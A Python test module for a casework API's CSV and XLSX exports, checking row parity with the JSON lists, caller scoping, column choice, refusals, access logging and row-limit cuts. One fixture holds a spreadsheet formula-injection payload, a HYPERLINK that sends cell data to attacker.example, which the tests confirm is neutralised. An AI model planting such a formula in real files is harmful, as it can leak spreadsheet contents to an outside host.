"""Every list of the API as a file (issue 32): `format=csv|xlsx` answers the rows its JSON
list answers over all its pages, with its filters and only the caller's cases; columns
chosen; bad input refused by name with nothing recorded; formula cells neutralised end
to end; every export on record in the access log, with its filters, rows and outcome."""

from __future__ import annotations

import csv
import io
import json
import uuid
from collections.abc import Sequence
from datetime import UTC, timedelta
from typing import Any
from urllib.parse import parse_qsl

import httpx
import openpyxl
import pytest

from application import access_log, exports
from application.access_log import ExportEntry
from directory import resolve_actor
from events.envelope import EventMetadata
from events.registry import DomainEvent
from events.vocabulary import (
    ActionAdded,
    ActionOverdue,
    ActionOwner,
    ActionOwnerKind,
    CaseConferenceRecorded,
    Participants,
    TransferRequested,
)
from tests.api.conftest import Api, problem
from tests.api.test_reads import NOW, T0, Seeded, seed
from tests.projections.conftest import catch_up

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

FORMULA_REASON = '=HYPERLINK("https://attacker.example/?"&A1,"Click")'
"""A transfer's reason as someone could type it: a formula if a spreadsheet ran it."""

VOLATILE = {"waiting_hours", "open_hours", "oldest_waiting_hours"}
"""Columns that move on between two reads (hours since …): not compared."""

EXTRA_STREAM_VERSION = 100
"""Where the extra events of `seed_more` go in each stream (after `seed`'s)."""


async def _append(api: Api, case_id: str, who: str, events: Sequence[DomainEvent]) -> None:
    stream = f"case-{case_id}"
    version = await api.app.store.stream_version(stream)
    for event in events:
        await api.app.store.append_domain(
            stream,
            version,
            [(uuid.uuid4(), event)],
            EventMetadata(actor_id=who, actor_role="caseworker"),
            T0 + timedelta(days=1, minutes=version),
        )
        version += 1


async def seed_more(api: Api, database_url: str) -> Seeded:
    """`test_reads.seed`'s twelve cases, and plan actions (some overdue), a case
    conference and a transfer whose reason is a formula, projected."""
    seeded = await seed(api.app.store, database_url)
    for n, case_id in enumerate(seeded.case_ids[:8]):
        worker = seeded.worker[case_id]
        due = NOW + timedelta(days=2 + n) if n % 2 else NOW - timedelta(days=3 + n)
        events: list[DomainEvent] = [
            ActionAdded(
                action_id=f"act-{n}", goal_id="goal-1", description="Ring the landlord",
                owner=ActionOwner(kind=ActionOwnerKind.CASEWORKER), due_at=due,
                crisis_plan=n % 4 == 0,
            )
        ]  # fmt: skip
        if not n % 2:
            events.append(ActionOverdue(action_id=f"act-{n}", due_at=due, worker=worker))
        await _append(api, case_id, worker, events)
    await _append(
        api,
        seeded.case_ids[0],
        "alice",
        [
            CaseConferenceRecorded(
                conference_id="conf-1", held_on=(NOW - timedelta(days=2)).date(),
                client_attended=True, participants=Participants(staff=["alice", "carol"]),
                decisions=["Sister joins the viewings"], action_ids=["act-0"],
            ),
            TransferRequested(transfer_id="tr-1", to_team="south", reason=FORMULA_REASON),
        ],
    )  # fmt: skip
    await catch_up(database_url, api.app.store)
    return seeded


async def every_page(api: Api, path: str, auth: dict[str, str], limit: int) -> list[Any]:
    """Every row of the JSON list `path`, page by page of `limit` rows."""
    rows: list[Any] = []
    cursor: str | None = None
    route, _, query = path.partition("?")
    while True:
        params: dict[str, Any] = {**dict(parse_qsl(query)), "limit": limit}
        if cursor:
            params["cursor"] = cursor
        answer = await api.http.get(f"/api/v1/{route}", params=params, headers=auth)
        assert answer.status_code == 200, answer.text
        page = answer.json()
        rows.extend(page["items"])
        cursor = page["next_cursor"]
        if cursor is None:
            return rows


# --- what a file should hold: the JSON list's rows, as the export writes them --------------


def _at(row: dict[str, Any], column: str) -> Any:
    value: Any = row
    for part in column.split("."):
        value = value.get(part) if isinstance(value, dict) else None
    return value


def _text(value: Any) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


def neutral(text: str) -> str:
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


def csv_cell(value: Any) -> str:
    """A JSON value as the CSV file writes it."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float):
        return _text(value)
    if isinstance(value, list):
        return neutral("; ".join(_text(v) for v in value))
    if isinstance(value, dict):
        return neutral(json.dumps(value, ensure_ascii=False, sort_keys=True))
    return neutral(str(value))


def xlsx_cell(value: Any) -> Any:
    """A JSON value as the XLSX sheet holds it (as openpyxl reads it back)."""
    if value is None or isinstance(value, bool | int | float):
        return value
    return csv_cell(value)


def parse_csv(body: bytes) -> tuple[list[str], list[list[str]]]:
    assert body.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark"
    [header, *rows] = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    return header, rows


def parse_xlsx(body: bytes) -> dict[str, tuple[list[str], list[list[Any]]]]:
    """Each sheet: its header and rows (values as openpyxl reads them)."""
    book = openpyxl.load_workbook(io.BytesIO(body), read_only=True)
    sheets: dict[str, tuple[list[str], list[list[Any]]]] = {}
    for sheet in book.worksheets:
        rows = [list(r) for r in sheet.iter_rows(values_only=True)]
        sheets[sheet.title] = ([str(h) for h in rows[0]], rows[1:]) if rows else ([], [])
    return sheets


def covers(header: list[str], row: dict[str, Any]) -> None:
    """Every field of the JSON row has its column(s), and every column a field."""
    for key in row:
        assert any(c == key or c.startswith(f"{key}.") for c in header), (key, header)
    for column in header:
        assert column.split(".")[0] in row, (column, sorted(row))


def same_rows(
    header: list[str], got: list[list[Any]], want: list[dict[str, Any]], cell: Any
) -> None:
    assert len(got) == len(want), (len(got), len(want))
    for row, expected in zip(got, want, strict=True):
        assert len(row) == len(header)
        for column, value in zip(header, row, strict=True):
            if column.split(".")[-1] in VOLATILE:
                continue
            wanted = cell(_at(expected, column))
            if isinstance(wanted, float) and not isinstance(wanted, bool):
                assert value == pytest.approx(wanted), column
            else:
                assert value == wanted, (column, value, wanted)


async def export(
    api: Api, path: str, who: dict[str, str], format: str, **params: str
) -> httpx.Response:
    answer = await api.http.get(f"/api/v1/{path}", params={**params, "format": format}, headers=who)
    assert answer.status_code == 200, answer.text
    return answer


async def exports_on_record(api: Api) -> list[ExportEntry]:
    auditor = await resolve_actor(api.app.store, "audrey")
    return await access_log.export_entries(api.app.pool, auditor)


# --- every list in both formats ---------------------------------------------------------------

LISTS: list[tuple[str, str, str, dict[str, str]]] = [
    # (path, list name, who, filters)
    ("caseload", "caseload", "audrey", {}),
    ("caseload", "caseload", "audrey", {"by": "team"}),
    ("approvals", "approvals", "audrey", {"kind": "plan"}),
    ("referrals", "referrals", "audrey", {"open": "true"}),
    ("referrals/by-provider", "referrals-by-provider", "audrey", {}),
    ("reviews", "reviews", "audrey", {"within": "30"}),
    ("escalations", "escalations", "audrey", {}),
    ("actions/mine", "actions-mine", "alice", {"within": "30"}),
    ("actions/overdue", "actions-overdue", "carol", {}),
    ("actions/overdue/by-team", "actions-overdue-by-team", "max", {}),
    ("conferences", "conferences", "audrey", {}),
    ("transfers", "transfers", "max", {}),
    ("cases/{case}/timeline", "timeline", "audrey", {}),
    ("cases/{case}/access-log", "access-log", "audrey", {}),
    ("access-log/break-glass", "break-glass", "audrey", {}),
    ("access-log/exports", "exports", "audrey", {}),
]


LOGS = ("access-log", "exports")
"""Lists an export adds to: its own entry is recorded once its first page is read, so the
file holds the entries before it (newest first: the later pages are older still)."""


async def expected_rows(
    api: Api, name: str, path: str, auth: dict[str, str], query: str, export_id: int
) -> list[dict[str, Any]]:
    """The JSON list over all its pages (two rows a page), read again after an export
    for the lists that export adds to."""
    if name == "actions-overdue-by-team":
        listed = await api.http.get(f"/api/v1/{path}", headers=auth)
        assert listed.status_code == 200, listed.text
        rows: list[dict[str, Any]] = listed.json()
        return rows
    rows = await every_page(api, f"{path}?{query}" if query else path, auth, 2)
    if name not in LOGS:
        return rows
    return [r for r in rows if r["access_id"] < export_id]


@pytest.mark.parametrize(
    ("path", "name", "who", "filters"),
    LISTS,
    ids=[f"{name}{'-' + '-'.join(f) if f else ''}" for _, name, _, f in LISTS],
)
async def test_every_list_exports_the_rows_its_json_lists(
    api: Api, database_url: str, path: str, name: str, who: str, filters: dict[str, str]
) -> None:
    seeded = await seed_more(api, database_url)
    case_id = seeded.case_ids[0]
    of_a_case = "{case}" in path
    path = path.replace("{case}", case_id)
    auth = await api.sign_in(who)
    # Something on record for the access-log lists: a read, an emergency read, an export.
    await api.http.get(f"/api/v1/cases/{case_id}/summary", headers=auth)
    await api.http.get(
        f"/api/v1/cases/{case_id}/timeline",
        headers={**await api.sign_in("erin"), "Casework-Break-Glass": "client in A&E"},
    )
    await export(api, "escalations", await api.sign_in("audrey"), "csv")
    query = "&".join(f"{k}={v}" for k, v in filters.items())
    day = api.clock().astimezone(UTC).date().isoformat()
    file_name = f"{name}-{case_id}-{day}" if of_a_case else f"{name}-{day}"

    as_csv = await export(api, path, auth, "csv", **filters)
    assert as_csv.headers["content-type"] == "text/csv; charset=utf-8"
    assert as_csv.headers["content-disposition"] == f'attachment; filename="{file_name}.csv"'
    assert as_csv.headers["casework-exported-at"].startswith(day)
    if name in ("access-log", "break-glass", "exports"):  # not read models
        assert "casework-read-model-position" not in as_csv.headers
    else:
        assert int(as_csv.headers["casework-read-model-position"]) > 0
    csv_id = int(as_csv.headers["casework-export-id"])
    expected = await expected_rows(api, name, path, auth, query, csv_id)
    if name not in LOGS:
        assert expected, f"{name}: seed rows for it"
    header, rows = parse_csv(as_csv.content)
    if expected:
        covers(header, expected[0])
    same_rows(header, rows, expected, csv_cell)

    as_xlsx = await export(api, path, auth, "xlsx", **filters)
    assert as_xlsx.headers["content-type"] == XLSX
    assert as_xlsx.headers["content-disposition"] == f'attachment; filename="{file_name}.xlsx"'
    xlsx_id = int(as_xlsx.headers["casework-export-id"])
    expected_x = await expected_rows(api, name, path, auth, query, xlsx_id)
    sheets = parse_xlsx(as_xlsx.content)
    assert list(sheets) == [name, "About"]
    x_header, x_rows = sheets[name]
    assert x_header == header
    same_rows(x_header, x_rows, expected_x, xlsx_cell)
    about = {str(k): v for k, v in sheets["About"][1]}
    assert str(about["Exported by"]).startswith(who)
    assert about["Export id (access log)"] == xlsx_id
    assert about[f"Rows ({name})"] == len(expected_x)
    for key, value in filters.items():
        assert str(about[f"Filter: {key}"]).lower() == value

    # Both exports on record, with their filters, rows and outcome.
    recorded = {e.access_id: e for e in await exports_on_record(api)}
    for export_id, format, count in ((csv_id, "csv", len(rows)), (xlsx_id, "xlsx", len(x_rows))):
        entry = recorded[export_id]
        assert (entry.view, entry.list_name, entry.format) == (
            f"export {name} {format}", name, format
        )  # fmt: skip
        assert entry.staff_id == who and entry.allowed
        assert {k: str(v).lower() for k, v in entry.filters.items() if k in filters} == filters
        assert (entry.row_count, entry.outcome) == (count, "complete")
        assert entry.case_id == (case_id if of_a_case else None)


# --- scope, filters, columns, refusals --------------------------------------------------------


async def test_an_export_holds_only_the_callers_cases_and_the_chosen_columns(
    api: Api, database_url: str
) -> None:
    seeded = await seed_more(api, database_url)
    alice, carol = await api.sign_in("alice"), await api.sign_in("carol")
    header, rows = parse_csv((await export(api, "referrals", alice, "csv")).content)
    cases = {r[header.index("case_id")] for r in rows}
    assert rows and cases <= seeded.of(worker="alice")
    header, rows = parse_csv((await export(api, "caseload", carol, "csv")).content)
    assert {r[header.index("team")] for r in rows} == {"north"}
    # A filter narrows within the scope, never widens it.
    _, rows = parse_csv((await export(api, "caseload", carol, "csv", team="south")).content)
    assert rows == []

    # Columns chosen and ordered; nested ones by their dotted name.
    chosen = "worker,by_risk.crisis,open_cases"
    header, rows = parse_csv((await export(api, "caseload", carol, "csv", columns=chosen)).content)
    json_rows = (await api.http.get("/api/v1/caseload", headers=carol)).json()["items"]
    assert header == ["worker", "by_risk.crisis", "open_cases"]
    assert rows == [
        [r["worker"], str(r["by_risk"]["crisis"]), str(r["open_cases"])] for r in json_rows
    ]
    sheets = parse_xlsx((await export(api, "caseload", carol, "xlsx", columns=chosen)).content)
    assert sheets["caseload"] == (
        header,
        [[r["worker"], r["by_risk"]["crisis"], r["open_cases"]] for r in json_rows],
    )

    # Asked by Accept, without `format`.
    by_accept = await api.http.get("/api/v1/approvals", headers={**carol, "Accept": "text/csv"})
    assert by_accept.status_code == 200 and by_accept.content.startswith(b"\xef\xbb\xbf")
    by_accept = await api.http.get("/api/v1/approvals", headers={**carol, "Accept": XLSX})
    assert by_accept.headers["content-type"] == XLSX
    as_json = await api.http.get(
        "/api/v1/approvals", headers={**carol, "Accept": "application/json"}
    )
    assert as_json.json()["items"]


async def test_bad_exports_are_refused_by_name_and_nothing_is_recorded(
    api: Api, database_url: str
) -> None:
    seeded = await seed_more(api, database_url)
    audrey, root = await api.sign_in("audrey"), await api.sign_in("root")
    before = len(await exports_on_record(api))
    for path, field in (
        ("caseload?format=pdf", "format"),
        ("caseload?format=csv&columns=team,secret", "columns"),
        ("caseload?format=xlsx&columns=team,team", "columns"),
        ("caseload?format=csv&columns=", "columns"),
        ("caseload?columns=team", "columns"),  # columns only with a file
        ("caseload?format=csv&by=mood", "by"),
        ("outcomes?format=csv", "section"),  # a CSV holds one section
        ("outcomes?format=csv&section=everything", "section"),
        ("outcomes?format=xlsx&columns=met", "columns"),  # which section's?
        (f"cases/{seeded.case_ids[0]}/timeline?format=csv&columns=nope", "columns"),
    ):
        body = problem(await api.http.get(f"/api/v1/{path}", headers=audrey), 422)
        assert [e["field"] for e in body["errors"]] == [field], (path, body)
        assert field in body["detail"]
    unknown = problem(
        await api.http.get("/api/v1/caseload?format=csv&columns=secret", headers=audrey), 422
    )
    assert "open_cases" in unknown["detail"] and "by_risk.crisis" in unknown["detail"]
    assert len(await exports_on_record(api)) == before
    # A role that may not make the query: 403, the refused attempt on record.
    problem(await api.http.get("/api/v1/caseload?format=csv", headers=root), 403)
    problem(
        await api.http.get(
            "/api/v1/access-log/exports?format=csv", headers=await api.sign_in("alice")
        ),
        403,
    )
    refused = (await exports_on_record(api))[:2]
    assert [(e.staff_id, e.view, e.allowed, e.row_count) for e in refused] == [
        ("alice", "export exports csv", False, None),
        ("root", "export caseload csv", False, None),
    ]
    # An out-of-scope case's timeline: as missing, nothing exported.
    erin = await api.sign_in("erin")
    alices = sorted(seeded.of(worker="alice"))[0]
    problem(await api.http.get(f"/api/v1/cases/{alices}/timeline?format=csv", headers=erin), 404)
    assert len(await exports_on_record(api)) == before + 2


async def test_formula_cells_are_neutralised_end_to_end(api: Api, database_url: str) -> None:
    await seed_more(api, database_url)
    max_ = await api.sign_in("max")
    header, rows = parse_csv((await export(api, "transfers", max_, "csv")).content)
    [row] = rows
    assert row[header.index("reason")] == "'" + FORMULA_REASON
    answer = await export(api, "transfers", max_, "xlsx")
    book = openpyxl.load_workbook(io.BytesIO(answer.content))
    sheet = book["transfers"]
    column = [c.value for c in sheet[1]].index("reason") + 1
    reason = sheet.cell(row=2, column=column)
    assert reason.data_type == "s" and reason.value == "'" + FORMULA_REASON
    # Numbers stay numbers, booleans booleans.
    versions = sheet.cell(row=2, column=[c.value for c in sheet[1]].index("case_version") + 1)
    assert versions.data_type == "n" and isinstance(versions.value, int)


async def test_outcomes_export_a_sheet_per_section(api: Api, database_url: str) -> None:
    await seed_more(api, database_url)
    audrey = await api.sign_in("audrey")
    report = (await api.http.get("/api/v1/outcomes", headers=audrey)).json()
    answer = await export(api, "outcomes", audrey, "xlsx", since="2000-01-01")
    sheets = parse_xlsx(answer.content)
    assert list(sheets) == [
        "goals", "closures", "plan-approval", "advocacy", "feedback", "plan-feedback", "About"
    ]  # fmt: skip
    assert sheets["plan-approval"] == (
        ["approved", "avg_hours_to_approval"],
        [[report["plan_approval"]["approved"], report["plan_approval"]["avg_hours_to_approval"]]],
    )
    assert sheets["closures"][0] == ["reason", "cases"]
    one = await export(api, "outcomes", audrey, "csv", section="plan-approval")
    assert one.headers["content-disposition"].endswith(
        f'filename="outcomes-plan-approval-{api.clock().date().isoformat()}.csv"'
    )
    header, rows = parse_csv(one.content)
    assert header == ["approved", "avg_hours_to_approval"]
    assert rows == [[csv_cell(report["plan_approval"]["approved"]),
                     csv_cell(report["plan_approval"]["avg_hours_to_approval"])]]  # fmt: skip
    entry = (await exports_on_record(api))[0]
    assert entry.filters == {"section": "plan-approval"} and entry.row_count == 1


# --- a long list ------------------------------------------------------------------------------

LONG = 3_200
"""Workers of one caseload row each: seven pages of 500 and a bit."""


async def test_a_long_list_streams_every_page_and_stops_at_the_limit(
    api: Api, database_url: str
) -> None:
    # The case_summary rows as the projector writes them, straight in: one open case for
    # each of LONG workers, so the caseload by worker has LONG rows.
    opened = NOW - timedelta(days=10)
    await api.app.pool.executemany(
        """INSERT INTO case_summary (case_id, status, client_ref, referral_source, worker, team,
               risk_level, opened_at, next_review_due, last_contact, last_event_at, stream_version)
           VALUES ($1, 'open', $2, 'self_referral', $3, $4, $5, $6, $7, $8, $6, 3)""",
        [
            (str(uuid.uuid4()), f"CL-LONG-{n}", f"worker-{n:05d}", ("north", "south")[n % 2],
             (None, "low", "medium", "high", "crisis")[n % 5], opened,
             NOW + timedelta(days=n % 40 - 20), (opened + timedelta(days=n % 7)).date())
            for n in range(LONG)
        ],
    )  # fmt: skip
    audrey = await api.sign_in("audrey")
    expected = await every_page(api, "caseload", audrey, 500)
    assert len(expected) == LONG

    as_csv = await export(api, "caseload", audrey, "csv")
    header, rows = parse_csv(as_csv.content)
    same_rows(header, rows, expected, csv_cell)
    as_xlsx = await export(api, "caseload", audrey, "xlsx")
    x_header, x_rows = parse_xlsx(as_xlsx.content)["caseload"]
    same_rows(x_header, x_rows, expected, xlsx_cell)

    # CASEWORK_EXPORT_MAX_ROWS: cut there, the file says so, the export is recorded as cut.
    api.app.settings.export_max_rows = 1_000
    try:
        cut = await export(api, "caseload", audrey, "csv")
        header, rows = parse_csv(cut.content)
        assert len(rows) == 1_001 and rows[-1][0].startswith("# cut at 1000 rows")
        same_rows(header, rows[:-1], expected[:1_000], csv_cell)
        cut_xlsx = parse_xlsx((await export(api, "caseload", audrey, "xlsx")).content)
        assert len(cut_xlsx["caseload"][1]) == 1_001
        about = dict((str(k), v) for k, v in cut_xlsx["About"][1])
        assert (
            about["Rows (caseload)"] == 1_000
            and "CASEWORK_EXPORT_MAX_ROWS" in about["Cut (caseload)"]
        )
        exact = await export(api, "caseload", audrey, "csv", team="north")  # 1,600: cut too
        assert parse_csv(exact.content)[1][-1][0].startswith("# cut")
    finally:
        api.app.settings.export_max_rows = 1_000_000
    entries = await exports_on_record(api)
    assert [(e.format, e.row_count, e.outcome) for e in reversed(entries)] == [
        ("csv", LONG, "complete"),
        ("xlsx", LONG, "complete"),
        ("csv", 1_000, "cut"),
        ("xlsx", 1_000, "cut"),
        ("csv", 1_000, "cut"),
    ]


async def test_an_export_the_client_leaves_is_on_record_as_aborted(
    api: Api, database_url: str
) -> None:
    await seed_more(api, database_url)
    auditor = await resolve_actor(api.app.store, "audrey")
    asker = exports.Asker(api.app, auditor, now=api.clock())
    for format in ("csv", "xlsx"):
        started = await exports.start(
            asker, exports.LISTS["escalations"], exports.EscalationFilters(), format
        )
        stream = started.stream()
        assert await anext(stream)  # the header (CSV); the whole file's first chunk (XLSX)
        await stream.aclose()  # the client went away
        assert started.outcome == "aborted"
    ended = await exports_on_record(api)
    assert [(e.format, e.outcome, e.row_count) for e in ended[:2]] == [
        ("xlsx", "aborted", 6),
        ("csv", "aborted", 0),
    ]
